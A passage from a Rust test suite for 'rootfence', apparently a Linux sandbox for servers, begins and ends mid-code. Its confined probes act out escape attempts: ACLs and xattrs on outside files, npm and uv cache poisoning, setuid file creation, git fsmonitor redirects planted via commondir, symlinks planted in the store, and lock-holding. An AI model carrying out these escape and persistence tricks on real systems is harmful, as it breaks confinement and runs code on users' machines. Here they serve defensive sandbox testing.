    // needs), and nothing can be mounted; unshare itself works, for what
    // makes no namespace (its own descriptor table).
    .expect("unshare", "EPERM")
    .allowed("unshare_files")
    .refused("mount_tmpfs")
    .refused("bind_root")
    .refused("chroot_read");
    assert_eq!(content(&t.outside.join("secret")), SECRET);
}

#[test]
fn extended_attributes_acls_and_owners_outside_the_roots_stay() {
    // chmod o+w is refused, but a POSIX ACL set through setxattr would make
    // the file world-writable all the same; Landlock does not rule on
    // extended attributes or owners.
    let t = tree();
    let secret = t.outside.join("secret");
    set_xattr(&secret, "user.kept", b"yes");
    let p = t.py(
        &[],
        &format!(
            "import struct\n\
             acl = struct.pack('<I', 2) + b''.join(struct.pack('<HHI', tag, perm, 0xffffffff) for tag, perm in ((1, 6), (4, 6), (0x20, 6)))\n\
             check('acl', lambda p: os.setxattr(p, 'system.posix_acl_access', acl), path='{s}')\n\
             check('user_xattr', lambda p: os.setxattr(p, 'user.rootfence', b'x'), path='{s}')\n\
             check('remove_xattr', lambda p: os.removexattr(p, 'user.kept'), path='{s}')\n\
             check('chown_group', lambda p: os.chown(p, -1, 65534), path='{s}')\n\
             check('chown_inside', lambda: (write('{r}/mine'), os.chown('{r}/mine', -1, os.getgid())))\n\
             check('acl_inside', lambda: os.setxattr('{r}/mine', 'system.posix_acl_access', acl))\n\
             check('user_xattr_inside', lambda: os.setxattr('{r}/mine', 'user.rootfence', b'x'))\n\
             check('remove_xattr_inside', lambda: os.removexattr('{r}/mine', 'user.rootfence'))\n\
             check('list_xattr_inside', lambda: os.listxattr('{r}/mine'))",
            s = secret.display(),
            r = t.r.display()
        ),
    );
    p.refused("acl")
        .refused("user_xattr")
        .refused("remove_xattr")
        .refused("chown_group");
    // Listing a file's attributes is open on every rung.
    p.allowed("list_xattr_inside");
    if t.namespaces {
        // Inside a writable root the server's own files are its own.
        p.allowed("chown_inside")
            .allowed("acl_inside")
            .allowed("user_xattr_inside")
            .allowed("remove_xattr_inside");
    } else {
        // Without the view, owners and extended attributes cannot be
        // ruled by path, and are refused whole (README, "What the fence
        // holds").
        p.refused("chown_inside")
            .refused("acl_inside")
            .refused("user_xattr_inside")
            .refused("remove_xattr_inside");
    }
    let md = std::fs::metadata(&secret).unwrap();
    assert_eq!(
        std::os::unix::fs::MetadataExt::gid(&md),
        t.runner().1,
        "the group changed"
    );
    assert_eq!(xattr(&secret, "system.posix_acl_access"), None, "an ACL was set");
    assert_eq!(xattr(&secret, "user.rootfence"), None, "an attribute was set");
    assert_eq!(xattr(&secret, "user.kept").as_deref(), Some(&b"yes"[..]));
    assert_eq!(content(&secret), SECRET);
}

/// An extended attribute of `p`, if set.
fn xattr(p: &std::path::Path, name: &str) -> Option<Vec<u8>> {
    let path = std::ffi::CString::new(p.as_os_str().as_encoded_bytes()).unwrap();
    let name = std::ffi::CString::new(name).unwrap();
    let mut buf = vec![0u8; 256];
    // SAFETY: valid C strings and a buffer of the given size.
    let n = unsafe { libc::getxattr(path.as_ptr(), name.as_ptr(), buf.as_mut_ptr().cast(), buf.len()) };
    (n >= 0).then(|| {
        buf.truncate(n as usize);
        buf
    })
}

fn set_xattr(p: &std::path::Path, name: &str, value: &[u8]) {
    let path = std::ffi::CString::new(p.as_os_str().as_encoded_bytes()).unwrap();
    let name = std::ffi::CString::new(name).unwrap();
    // SAFETY: valid C strings and value.
    let r = unsafe { libc::setxattr(path.as_ptr(), name.as_ptr(), value.as_ptr().cast(), value.len(), 0) };
    assert_eq!(r, 0, "setxattr: {}", std::io::Error::last_os_error());
}

#[test]
fn caches_run_later_outside_are_never_written() {
    // npx runs what the npm cache holds and uv hard-links its cache into
    // environments used outside: a server writing there would run code
    // outside the sandbox later.
    let t = tree();
    let pkg = t.home.join(".npm/_npx/0123456789abcdef/node_modules/pkg");
    std::fs::create_dir_all(&pkg).unwrap();
    std::fs::write(pkg.join("index.js"), "ORIGINAL").unwrap();
    let uv = t.home.join(".cache/uv/archive-v0/x");
    std::fs::create_dir_all(&uv).unwrap();
    std::fs::write(uv.join("lib.py"), "ORIGINAL").unwrap();
    let node = ["/usr/local/bin/node", "/usr/bin/node"]
        .into_iter()
        .find(|p| std::path::Path::new(p).exists())
        .expect("node is required: apt-get install -y nodejs");
    let js = format!(
        "const fs = require('fs');\n\
         function write(name, f) {{\n\
           try {{ fs.writeFileSync(f, 'CHANGED'); console.log(name + '=OK') }} catch (e) {{ console.log(name + '=' + e.code) }}\n\
         }}\n\
         const f = '{f}';\n\
         write('write', f);\n\
         try {{ console.log('seen=' + fs.readFileSync(f, 'utf8')) }} catch (e) {{ console.log('seen=' + e.code) }}\n\
         write('write_root', '{r}/index.js');\n\
         console.log('cache=' + process.env.npm_config_cache);",
        f = pkg.join("index.js").display(),
        r = t.r.display()
    );
    let out = t.run(&[], &[node, "-e", &js]);
    let p = Probe::new(out);
    // The same write in a root.
    p.allowed("write_root");
    if t.namespaces {
        // Written through the server's private layer: it sees its write,
        // the user's cache does not.
        p.expect("write", "OK").expect("seen", "CHANGED");
        assert_eq!(p.value("cache"), t.home.join(".npm").display().to_string());
    } else {
        // Without namespaces: read-only, and an empty private cache.
        p.refused("write");
        assert!(p.value("cache").contains("rootfence-"), "{}", p.value("cache"));
    }
    assert_eq!(content(&pkg.join("index.js")), "ORIGINAL");
    let p = t.py(
        &[],
        &format!(
            "check('uv', lambda: write('{f}', 'CHANGED'))\n\
             check('uv_root', lambda: write('{r}/lib.py', 'CHANGED'))\n\
             print('uv_cache=' + os.environ.get('UV_CACHE_DIR', ''))",
            f = uv.join("lib.py").display(),
            r = t.r.display()
        ),
    );
    p.allowed("uv_root");
    if t.namespaces {
        p.expect("uv", "OK");
    } else {
        p.refused("uv");
        assert!(p.value("uv_cache").contains("rootfence-"));
    }
    assert_eq!(content(&uv.join("lib.py")), "ORIGINAL");
}

#[test]
fn set_id_modes_are_refused_at_creation_as_at_chmod() {
    // open(O_CREAT), mkdir and mknod take a mode too: a server running as
    // root would otherwise leave a set-user-ID root file in the user's
    // tree (the umask never clears set-id bits).
    let t = tree();
    t.py(
        &[],
        &format!(
            "os.umask(0)\n\
             check('open_suid', lambda: os.close(os.open('{r}/suid', os.O_CREAT | os.O_WRONLY, 0o6777)))\n\
             check('open_sgid', lambda: os.close(os.open('{r}/sgid', os.O_CREAT | os.O_WRONLY | os.O_EXCL, 0o2755)))\n\
             check('tmpfile_suid', lambda: os.close(os.open('{r}', os.O_TMPFILE | os.O_WRONLY, 0o4755)))\n\
             check('mkdir_sgid', lambda: os.mkdir('{r}/sgid_dir', 0o3777))\n\
             check('mkfifo_suid', lambda: os.mkfifo('{r}/suid_fifo', 0o4666))\n\
             os.umask(0o022)\n\
             check('open_plain', lambda: os.close(os.open('{r}/plain', os.O_CREAT | os.O_WRONLY, 0o755)))\n\
             check('mkdir_sticky', lambda: os.mkdir('{r}/sticky_dir', 0o1777))\n\
             check('mkfifo_plain', lambda: os.mkfifo('{r}/plain_fifo', 0o644))",
            r = t.r.display(),
        ),
    )
    .expect("open_suid", "EPERM")
    .expect("open_sgid", "EPERM")
    .expect("tmpfile_suid", "EPERM")
    .expect("mkdir_sgid", "EPERM")
    .expect("mkfifo_suid", "EPERM")
    .expect("open_plain", "OK")
    .expect("mkdir_sticky", "OK")
    .expect("mkfifo_plain", "OK");
    for refused in ["suid", "sgid", "sgid_dir", "suid_fifo"] {
        assert!(
            !t.r.join(refused).exists(),
            "{refused} was created in the root"
        );
    }
    use std::os::unix::fs::PermissionsExt;
    for made in ["plain", "sticky_dir", "plain_fifo"] {
        let mode = std::fs::symlink_metadata(t.r.join(made))
            .unwrap()
            .permissions()
            .mode();
        assert_eq!(mode & 0o6000, 0, "{made} has set-id bits: {mode:o}");
    }
}

/// Inode flags of `p` (`FS_IOC_GETFLAGS`), read from outside.
fn inode_flags(p: &std::path::Path) -> i64 {
    use std::os::fd::AsRawFd;
    let f = std::fs::File::open(p).unwrap();
    let mut flags: libc::c_long = 0;
    // SAFETY: FS_IOC_GETFLAGS writes a long.
    let r = unsafe { libc::ioctl(f.as_raw_fd(), 0x8008_6601, &mut flags) };
    assert_eq!(r, 0, "FS_IOC_GETFLAGS: {}", std::io::Error::last_os_error());
    flags as i64
}

#[test]
fn inode_flags_of_files_it_may_only_read_stay() {
    // FS_IOC_SETFLAGS and FS_IOC_FSSETXATTR on a descriptor opened
    // read-only, and file_setattr (Linux 6.17) on a path: Landlock does not
    // rule on them, and without the view's read-only mounts the owner of a
    // file (root owns them all) could set nodump, noatime, sync or
    // append-only on files of a read-only root or outside.
    let t = tree();
    let file = t.ro.join("file");
    let before = inode_flags(&file);
    t.py(
        &[],
        &format!(
            "import fcntl, array, ctypes, struct\n\
             libc = ctypes.CDLL(None, use_errno=True)\n\
             fd = os.open('{f}', os.O_RDONLY)\n\
             def getflags():\n\
             \x20   a = array.array('l', [0]); fcntl.ioctl(fd, 0x80086601, a, True); return a[0]\n\
             check('getflags', getflags)\n\
             def setflags():\n\
             \x20   a = array.array('l', [getflags() | 0x40]); fcntl.ioctl(fd, 0x40086602, a, True)\n\
             check('setflags', setflags)\n\
             def fssetxattr():\n\
             \x20   buf = bytearray(28); fcntl.ioctl(fd, 0x801c581f, buf, True)\n\
             \x20   struct.pack_into('<I', buf, 0, struct.unpack_from('<I', buf, 0)[0] | 0x80)\n\
             \x20   fcntl.ioctl(fd, 0x401c5820, bytes(buf))\n\
             check('fssetxattr', fssetxattr)\n\
             def file_setattr():\n\
             \x20   attr = struct.pack('<QIIII', 0x80, 0, 0, 0, 0)\n\
             \x20   if libc.syscall(469, -100, b'{f}', attr, len(attr), 0) < 0:\n\
             \x20       raise OSError(ctypes.get_errno(), 'file_setattr')\n\
             check('file_setattr', file_setattr)",
            f = file.display(),
        ),
    )
    .expect("getflags", "OK")
    .expect_any("setflags", &["EPERM", "EROFS"])
    .expect_any("fssetxattr", &["EPERM", "EROFS"])
    .expect_any("file_setattr", &["EPERM", "EROFS", "ENOSYS"]);
    assert_eq!(inode_flags(&file), before, "the read-only root's file got new flags");
}

#[test]
fn git_redirects_planted_in_a_root_do_not_reach_the_users_git() {
    // .git/commondir (or config.worktree) makes git read another config:
    // a server writes one pointing at a directory it made, whose config
    // sets core.fsmonitor, and the user's next `git status` runs it. A
    // mount cannot refuse a name that does not exist yet: rootfence moves
    // these away when the server ends, and reports them and a new
    // repository it made, with what they would run.
    let t = tree();
    assert!(t.git(&t.r, &["init", "-q"]).status.success());
    std::fs::write(t.r.join("tracked"), "v1").unwrap();
    assert!(t.git(&t.r, &["add", "tracked"]).status.success());
    let marker = t.outside.join("fsmonitor-ran");
    let r = t.r.display().to_string();
    let out = t.run(
        &[],
        &[
            "/bin/sh",
            "-c",
            &format!(
                "mkdir -p {r}/evil/objects {r}/evil/refs && \
                 printf '[core]\\n\\trepositoryformatversion = 0\\n\\tfsmonitor = touch {m}\\n' > {r}/evil/config && \
                 echo ../evil > {r}/.git/commondir && \
                 printf '[core]\\n\\tfsmonitor = touch {m}\\n' > {r}/.git/config.worktree && \
                 mkdir -p {r}/nested/.git && printf '[core]\\n\\tfsmonitor = touch {m}\\n' > {r}/nested/.git/config && \
                 echo planted",
                m = marker.display()
            ),
        ],
    );
    assert!(
        common::stdout(&out).contains("planted"),
        "the server could not write in its root: {}",
        common::stderr(&out)
    );
    let err = common::stderr(&out);
    assert!(!t.r.join(".git/commondir").exists(), "commondir left in place\n{err}");
    assert!(!t.r.join(".git/config.worktree").exists(), "config.worktree left in place\n{err}");
    assert!(
        err.contains(".git/commondir") && err.contains("rootfence-quarantine"),
        "the redirect was not reported as moved:\n{err}"
    );
    assert!(
        err.contains("nested/.git") && err.contains("fsmonitor"),
        "the new repository was not reported with what it runs:\n{err}"
    );
    let st = t.git(&t.r, &["status", "--short"]);
    assert!(st.status.success(), "{}", String::from_utf8_lossy(&st.stderr));
    assert!(!marker.exists(), "a command planted by the server ran outside");
}

#[test]
fn links_a_server_plants_in_its_store_are_never_followed_by_its_next_start() {
    // The store is the server's home: it may leave anything there. At its
    // next start rootfence builds the view in it (mount points on the way
    // to a root under the home, git's sanitized configuration): a link
    // planted there, pointing where the host's tree is while the view is
    // built, must lead nowhere.
    let t = tree();
    std::fs::write(t.home.join(".gitconfig"), "[user]\n\tname = someone\n").expect("write");
    let work = t.home.join("projects/work");
    std::fs::create_dir_all(&work).expect("mkdir");
    std::fs::write(work.join("file"), "work").expect("write");
    let outside = t.outside.display().to_string();
    let code = format!(
        "{}\n\
         home = os.environ['HOME']\n\
         check('work', lambda: read(home + '/projects/work/file'))\n\
         def plant(host):\n    \
             os.rename(home + '/projects', home + '/projects-moved')\n    \
             os.symlink(host + '{outside}', home + '/projects')\n    \
             os.remove(home + '/.gitconfig')\n    \
             os.symlink(host + '{outside}/planted', home + '/.gitconfig')\n\
         if not os.path.exists(home + '/.planted'):\n    \
             write(home + '/.planted')\n    \
             check('plant', lambda: plant('/.rootfence-host'))\n",
        common::PRELUDE
    );
    let py = common::python();
    let py = py.to_string_lossy();
    let root = work.to_string_lossy();
    let first = Probe::new(t.run(&["--root", &root], &[&py, "-c", &code]));
    first.allowed("work");
    if !t.namespaces {
        // Without namespaces the store is not where the view is built.
        return;
    }
    first.allowed("plant");
    let second = Probe::new(t.run(&["--root", &root], &[&py, "-c", &code]));
    // It starts, with its root where it was.
    second.allowed("work");
    // Nothing was made through the links.
    let made: Vec<_> = std::fs::read_dir(&t.outside)
        .expect("list outside")
        .flatten()
        .map(|e| e.file_name())
        .collect();
    assert_eq!(made, vec![std::ffi::OsString::from("secret")]);
    assert_eq!(content(&t.outside.join("secret")), SECRET);
    // What it left in the way (both links) is kept, moved aside.
    let stores = stores_of(&t);
    let displaced = stores[0].parent().expect("store").join("displaced");
    assert_eq!(
        std::fs::read_dir(&displaced).map(|d| d.count()).unwrap_or(0),
        2,
        "{}",
        common::stderr(&second.out)
    );
}

#[test]
fn a_server_started_outside_its_grants_starts_in_its_first_root() {
    // The tree's commands start in its base directory, which no grant
    // holds: the server starts in its first root instead (bun, for one,
    // cannot start in a directory it may not read).
    let t = tree();
    let code = format!(
        "{}\ncheck('list', lambda: os.listdir('.'))\nprint('cwd=' + os.getcwd())",
        common::PRELUDE
    );
    let py = common::python();
    let py = py.to_string_lossy();
    let p = Probe::new(t.run(&[], &[&py, "-c", &code]));
    p.allowed("list");
    assert_eq!(p.value("cwd"), t.r.display().to_string());
    // Started in a granted directory, it stays there.
    let out = t
        .command(&[], &[&py, "-c", &code])
        .current_dir(&t.ro)
        .output()
        .expect("run rootfence exec");
    let p = Probe::new(out);
    p.allowed("list");
    assert_eq!(p.value("cwd"), t.ro.display().to_string());
}

#[test]
fn launches_of_the_same_server_at_once_share_its_store() {
    // Each start builds its view in the same store (git's configuration
    // copied in, a link recreated, mount points made): eight at once all
    // start.
    let t = tree();
    std::fs::write(t.home.join(".gitconfig"), "[user]\n\tname = someone\n").expect("write");
    let code = format!(
        "{}\ncheck('git', lambda: read(os.environ['HOME'] + '/.gitconfig') if {} else None)",
        common::PRELUDE,
        if t.namespaces { "True" } else { "False" }
    );
    let py = common::python();
    let py = py.to_string_lossy().into_owned();
    // Every command first (each writes the tree's policy file), then
    // every start.
    let mut commands: Vec<_> = (0..8)
        .map(|_| t.command(&[], &[&py, "-c", &code]))
        .collect();
    let children: Vec<_> = commands
        .iter_mut()
        .map(|c| {
            c.stdout(std::process::Stdio::piped())
                .stderr(std::process::Stdio::piped())
                .spawn()
                .expect("start rootfence exec")
        })
        .collect();
    for c in children {
        let out = c.wait_with_output().expect("wait");
        Probe::new(out).allowed("git");
    }
}

/// What a process outside sees of the locks on the tree's files while a
/// server holds its own: `name=OK` for a lock it got, else the errno.
const LOCKS_OUTSIDE: &str = "import fcntl, struct, errno, os, sys\n\
     def t(f):\n\
     \x20   try:\n\
     \x20       f(); return 'OK'\n\
     \x20   except OSError as e:\n\
     \x20       return errno.errorcode.get(e.errno, str(e.errno))\n\
     def ofd(fd, kind):\n\
     \x20   fcntl.fcntl(fd, 37, struct.pack('hhqqi', kind, 0, 0, 0, 0))\n\
     ro, r = sys.argv[1], sys.argv[2]\n\
     f = os.open(ro + '/file', os.O_RDWR)\n\
     print('flock_ro=' + t(lambda: fcntl.flock(f, fcntl.LOCK_EX | fcntl.LOCK_NB)))\n\
     print('posix_ro=' + t(lambda: fcntl.lockf(f, fcntl.LOCK_EX | fcntl.LOCK_NB)))\n\
     fcntl.lockf(f, fcntl.LOCK_UN)\n\
     g = os.open(ro + '/file', os.O_RDWR)\n\
     print('ofd_ro=' + t(lambda: ofd(g, fcntl.F_WRLCK)))\n\
     own = os.open(r + '/own.lock', os.O_RDWR)\n\
     print('flock_rw=' + t(lambda: fcntl.flock(own, fcntl.LOCK_EX | fcntl.LOCK_NB)))\n\
     own2 = os.open(r + '/own2.lock', os.O_RDWR)\n\
     print('posix_rw=' + t(lambda: fcntl.lockf(own2, fcntl.LOCK_EX | fcntl.LOCK_NB)))\n\
     own3 = os.open(r + '/own3.lock', os.O_RDWR)\n\
     print('ofd_rw=' + t(lambda: ofd(own3, fcntl.F_WRLCK)))\n";

#[test]
fn locks_on_files_it_may_only_read_hold_nothing_outside() {
    // flock(), POSIX and open-file-description locks need no write
    // access: an exclusive lock on a read-granted file (cargo's
    // ~/.cargo/.package-cache) made the user's own tools wait. A lock on
    // a file the server opened only for reading now succeeds and locks
    // nothing; a lock on a file it opened for writing is real, and a wait
    // for one another process holds ends when that process lets go.
    let t = tree();
    let code = format!(
        "import fcntl, struct, time\n\
         def ofd(fd, kind, wait=False):\n\
         \x20   fcntl.fcntl(fd, 38 if wait else 37, struct.pack('hhqqi', kind, 0, 0, 0, 0))\n\
         ro = os.open('{ro}/file', os.O_RDONLY)\n\
         check('flock_ro', lambda: fcntl.flock(ro, fcntl.LOCK_EX | fcntl.LOCK_NB))\n\
         check('posix_ro', lambda: fcntl.lockf(ro, fcntl.LOCK_SH | fcntl.LOCK_NB))\n\
         check('ofd_ro', lambda: ofd(ro, fcntl.F_RDLCK))\n\
         own = os.open('{r}/own.lock', os.O_RDWR | os.O_CREAT, 0o644)\n\
         check('flock_rw', lambda: fcntl.flock(own, fcntl.LOCK_EX))\n\
         own2 = os.open('{r}/own2.lock', os.O_RDWR | os.O_CREAT, 0o644)\n\
         check('posix_rw', lambda: fcntl.lockf(own2, fcntl.LOCK_EX | fcntl.LOCK_NB))\n\
         own3 = os.open('{r}/own3.lock', os.O_RDWR | os.O_CREAT, 0o644)\n\
         check('ofd_rw', lambda: ofd(own3, fcntl.F_WRLCK, wait=True))\n\
         rd, wr = os.pipe()\n\
         pid = os.fork()\n\
         if pid == 0:\n\
         \x20   fd = os.open('{r}/wait.lock', os.O_RDWR | os.O_CREAT, 0o644)\n\
         \x20   fcntl.flock(fd, fcntl.LOCK_EX)\n\
         \x20   os.write(wr, b'x')\n\
         \x20   time.sleep(0.3)\n\
         \x20   os._exit(0)\n\
         os.read(rd, 1)\n\
         w = os.open('{r}/wait.lock', os.O_RDWR)\n\
         check('flock_busy', lambda: fcntl.flock(w, fcntl.LOCK_EX | fcntl.LOCK_NB))\n\
         check('flock_wait', lambda: fcntl.flock(w, fcntl.LOCK_EX))\n\
         os.waitpid(pid, 0)\n\
         check('flock_closed', lambda: fcntl.flock(999, fcntl.LOCK_EX))",
        ro = t.ro.display(),
        r = t.r.display(),
    );
    let (probe, seen) = hold_and_look(&t, &code, LOCKS_OUTSIDE, &[&t.ro, &t.r]);
    probe
        .allowed("flock_ro")
        .allowed("posix_ro")
        .allowed("ofd_ro")
        .allowed("flock_rw")
        .allowed("posix_rw")
        .allowed("ofd_rw")
        .expect_any("flock_busy", &["EAGAIN", "EWOULDBLOCK"])
        .allowed("flock_wait")
        .expect("flock_closed", "EBADF");
    let got = |name: &str| {
        seen.lines()
            .find_map(|l| l.strip_prefix(&format!("{name}=")))
            .unwrap_or_else(|| panic!("no {name} outside: {seen}"))
            .to_string()
    };
    // Nothing outside waits for a lock on a file the server may only read.
    assert_eq!(got("flock_ro"), "OK", "{seen}");
    assert_eq!(got("posix_ro"), "OK", "{seen}");
    assert_eq!(got("ofd_ro"), "OK", "{seen}");
    // The server's locks on its own files are real.
    assert!(["EAGAIN", "EWOULDBLOCK"].contains(&got("flock_rw").as_str()), "{seen}");
    assert!(["EAGAIN", "EACCES"].contains(&got("posix_rw").as_str()), "{seen}");
    assert!(["EAGAIN", "EACCES"].contains(&got("ofd_rw").as_str()), "{seen}");
}

/// Run `code` (Python, after [`common::PRELUDE`]) confined until it prints
/// `held`; while it waits on its stdin, run [`LOCKS_HELD_OUTSIDE`] outside
/// on `<ro>/file`. Returns what the server printed before `held` and what
/// the process outside saw (`name=RESULT` lines).
fn while_it_holds(t: &common::Tree, code: &str) -> (Probe, String) {
    while_it_holds_on(t, code, &t.ro.join("file"))
}

/// [`while_it_holds`], with [`LOCKS_HELD_OUTSIDE`] run on `file`.
fn while_it_holds_on(t: &common::Tree, code: &str, file: &std::path::Path) -> (Probe, String) {
    hold_and_look(t, code, LOCKS_HELD_OUTSIDE, &[file])
}

/// Run `code` (Python, after [`common::PRELUDE`]) confined until it prints
/// `held`; while it waits on its stdin, run the Python `outside` outside
/// with `args`. Returns what the server printed before `held`, and what
/// the process outside printed (then its stderr and rootfence's).
fn hold_and_look(
    t: &common::Tree,
    code: &str,
    outside: &str,
    args: &[&std::path::Path],
) -> (Probe, String) {
    let py = common::python();
    let code = format!("{}\n{code}\nprint('held', flush=True)\nsys.stdin.read()", common::PRELUDE);
    let mut child = t
        .command(&[], &[py.to_str().unwrap_or("python3"), "-c", &code])
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .expect("start rootfence exec");
    let mut out = std::io::BufReader::new(child.stdout.take().expect("stdout"));
    let mut inside = String::new();
    loop {
        let mut line = String::new();
        let n = std::io::BufRead::read_line(&mut out, &mut line).expect("the server's answers");
        if n == 0 || line.trim() == "held" {
            break;
        }
        inside.push_str(&line);
    }
    let outside = std::process::Command::new(&py)
        .args(["-c", outside])
        .args(args)
        .output()
        .expect("python outside");
    drop(child.stdin.take());
    let done = child.wait_with_output().expect("wait for rootfence exec");
    let seen = String::from_utf8_lossy(&outside.stdout).into_owned()
        + &String::from_utf8_lossy(&outside.stderr)
        + &String::from_utf8_lossy(&done.stderr);
    let probe = Probe::new(std::process::Output {
        status: done.status,
        stdout: inside.into_bytes(),
        stderr: done.stderr,
    });
    (probe, seen)
}

/// Outside, on the file `argv[1]`: an exclusive flock(), POSIX and OFD lock,
/// each without waiting, and an open for writing that a lease would make
/// wait (`O_NONBLOCK`: `EWOULDBLOCK` under a lease).
const LOCKS_HELD_OUTSIDE: &str = "import fcntl, struct, errno, os, sys\n\
     def t(f):\n\
     \x20   try:\n\
     \x20       f(); return 'OK'\n\
     \x20   except OSError as e:\n\
     \x20       return errno.errorcode.get(e.errno, str(e.errno))\n\
     p = sys.argv[1]\n\
     f = os.open(p, os.O_RDWR)\n\
     print('flock=' + t(lambda: fcntl.flock(f, fcntl.LOCK_EX | fcntl.LOCK_NB)))\n\
     print('posix=' + t(lambda: fcntl.lockf(f, fcntl.LOCK_EX | fcntl.LOCK_NB)))\n\
     fcntl.lockf(f, fcntl.LOCK_UN)\n\
     g = os.open(p, os.O_RDWR)\n\
     print('ofd=' + t(lambda: fcntl.fcntl(g, 37, struct.pack('hhqqi', fcntl.F_WRLCK, 0, 0, 0, 0))))\n\
     print('open=' + t(lambda: os.close(os.open(p, os.O_RDWR | os.O_NONBLOCK))))\n";

fn nothing_held_outside(seen: &str) {
    for name in ["flock", "posix", "ofd", "open"] {
        let got = seen
            .lines()
            .find_map(|l| l.strip_prefix(&format!("{name}=")))
            .unwrap_or_else(|| panic!("no {name} outside: {seen}"));
        assert_eq!(got, "OK", "{name} waits outside: {seen}");
    }
}

#[test]
fn lock_variants_on_a_file_it_may_only_read_hold_nothing_outside() {
    // Every other way to ask for a lock, a lease or a writable descriptor
    // on a read-granted file: raw calls with the command's upper 32 bits
    // set (the kernel reads the low 32, as the filter does), SEEK_END and
    // SEEK_CUR ranges, a negative length, l_pid set, flock() with
    // LOCK_UN or LOCK_MAND beside another operation, conversions, leases,
    // O_PATH descriptors, /proc/self/fd reopened for writing, hard links
    // into the writable root, F_SETFL, and locks taken by a child that
    // then execs and stays. Nothing outside waits afterwards.
    let t = tree();
    let code = format!(
        "import fcntl, struct, ctypes\n\
         libc = ctypes.CDLL(None, use_errno=True)\n\
         libc.syscall.restype = ctypes.c_long\n\
         def sc(nr, *a):\n\
         \x20   r = libc.syscall(ctypes.c_long(nr), *[ctypes.c_long(x) for x in a])\n\
         \x20   if r < 0:\n\
         \x20       e = ctypes.get_errno(); raise OSError(e, os.strerror(e))\n\
         def lk(kind, whence=0, start=0, ln=0, pid=0):\n\
         \x20   return struct.pack('hhqqi', kind, whence, start, ln, pid)\n\
         buf = ctypes.create_string_buffer(lk(fcntl.F_RDLCK), 32)\n\
         NR_FCNTL = {fcntl_nr}\n\
         NR_FLOCK = {flock_nr}\n\
         HI = 1 << 32\n\
         F = os.open('{ro}/file', os.O_RDONLY)\n\
         check('fcntl_hi_setlk', lambda: sc(NR_FCNTL, F, HI | fcntl.F_SETLK, ctypes.addressof(buf)))\n\
         check('fcntl_hi_ofd', lambda: sc(NR_FCNTL, F, HI | 37, ctypes.addressof(buf)))\n\
         check('setlkw_end', lambda: fcntl.fcntl(F, fcntl.F_SETLKW, lk(fcntl.F_RDLCK, 2, -3)))\n\
         os.lseek(F, 3, 0)\n\
         check('setlk_cur_neg', lambda: fcntl.fcntl(F, fcntl.F_SETLK, lk(fcntl.F_RDLCK, 1, 2, -2)))\n\
         check('setlk_pid', lambda: fcntl.fcntl(F, fcntl.F_SETLK, lk(fcntl.F_RDLCK, 0, 0, 0, 1)))\n\
         check('ofdw_end', lambda: fcntl.fcntl(F, 38, lk(fcntl.F_RDLCK, 2, -1)))\n\
         check('flock_sh_un', lambda: sc(NR_FLOCK, F, fcntl.LOCK_SH | fcntl.LOCK_UN))\n\
         check('flock_ex_un_nb', lambda: sc(NR_FLOCK, F, fcntl.LOCK_EX | fcntl.LOCK_UN | fcntl.LOCK_NB))\n\
         check('flock_mand', lambda: sc(NR_FLOCK, F, 32 | fcntl.LOCK_EX))\n\
         check('flock_hi', lambda: sc(NR_FLOCK, F, HI | fcntl.LOCK_EX))\n\
         check('flock_conv', lambda: (fcntl.flock(F, fcntl.LOCK_SH), fcntl.flock(F, fcntl.LOCK_EX | fcntl.LOCK_NB)))\n\
         check('lease', lambda: fcntl.fcntl(F, 1024, fcntl.F_RDLCK))\n\
         check('lease_hi', lambda: sc(NR_FCNTL, F, HI | 1024, fcntl.F_RDLCK))\n\
         check('reopen_rw', lambda: os.open('/proc/self/fd/%d' % F, os.O_RDWR))\n\
         P = os.open('{ro}/file', os.O_PATH)\n\
         check('opath_flock', lambda: fcntl.flock(P, fcntl.LOCK_SH))\n\
         check('opath_ofd', lambda: fcntl.fcntl(P, 37, lk(fcntl.F_RDLCK)))\n\
         check('opath_reopen_rw', lambda: os.open('/proc/self/fd/%d' % P, os.O_RDWR))\n\
         check('setfl_rdwr', lambda: (fcntl.fcntl(F, fcntl.F_SETFL, os.O_RDWR), fcntl.lockf(F, fcntl.LOCK_EX | fcntl.LOCK_NB)))\n\
         check('link_in', lambda: os.link('{ro}/file', '{r}/hl'))\n\
         check('link_proc', lambda: os.link('/proc/self/fd/%d' % F, '{r}/hl2', follow_symlinks=True))\n\
         rd, wr = os.pipe()\n\
         if os.fork() == 0:\n\
         \x20   fcntl.flock(F, fcntl.LOCK_EX)\n\
         \x20   fcntl.lockf(F, fcntl.LOCK_SH)\n\
         \x20   fcntl.fcntl(F, 38, lk(fcntl.F_RDLCK))\n\
         \x20   os.write(wr, b'x')\n\
         \x20   os.execv(sys.executable, [sys.executable, '-c', 'import time; time.sleep(30)'])\n\
         os.read(rd, 1)",
        fcntl_nr = libc::SYS_fcntl,
        flock_nr = libc::SYS_flock,
        ro = t.ro.display(),
        r = t.r.display(),
    );
    let (probe, seen) = while_it_holds(&t, &code);
    probe
        .allowed("fcntl_hi_setlk")
        .allowed("fcntl_hi_ofd")
        .allowed("setlkw_end")
        .allowed("setlk_cur_neg")
        .allowed("setlk_pid")
        .allowed("ofdw_end")
        .expect("flock_sh_un", "EINVAL")
        .expect("flock_ex_un_nb", "EINVAL")
        .allowed("flock_conv")
        .expect("lease", "EPERM")
        .expect("lease_hi", "EPERM")
        .expect("opath_flock", "EBADF")
        .expect("opath_ofd", "EBADF")
        .expect("setfl_rdwr", "EBADF")
        .refused("reopen_rw")
        .refused("opath_reopen_rw")
        .refused("link_in")
        .refused("link_proc");
    nothing_held_outside(&seen);
}

/// What rootfence says of a racer it ended: that it killed it, or also
/// why (the file it may only read).
#[derive(Clone, Copy, PartialEq)]
enum Says {
    Killed,
    Why,
}

/// How the racer's `rootfence exec` must have ended.
#[derive(Clone, Copy, PartialEq)]
enum Exit {
    Killed,
    Any,
}

/// The racer won (else the test proves nothing), nothing outside waits for
/// a lock on `<ro>/file`, and rootfence ended it and said so.
fn the_racer_was_ended(t: &common::Tree, probe: &Probe, seen: &str, says: Says, exit: Exit) {
    let out = String::from_utf8_lossy(&probe.out.stdout).into_owned();
    assert!(
        !out.contains("never won"),
        "the race was never won, so this proves nothing: {out}"
    );
    nothing_held_outside(seen);
    assert!(
        seen.contains("killed"),
        "rootfence does not say it ended the racer: {seen} {out} {:?}",
        probe.out.status
    );
    if says == Says::Why {
        assert!(
            seen.contains(&format!("{}/file", t.ro.display())),
            "rootfence does not say why it ended the racer: {seen}"
        );
    }
    if exit == Exit::Killed {
